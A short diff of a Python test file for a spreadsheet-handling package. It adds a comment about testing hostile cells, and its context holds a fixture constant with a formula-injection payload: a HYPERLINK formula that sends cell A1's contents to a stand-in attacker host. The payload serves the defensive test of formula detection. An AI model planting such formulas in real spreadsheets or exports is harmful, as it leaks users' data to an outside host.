@@ -6,6 +6,8 @@ import pytest
 
 import utmost as ut
 from running import called
+
+# Readers of hostile bytes and cells, and their limits, are tried without a release behind them.
 from utmost.tables.files.formulas import is_computed
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
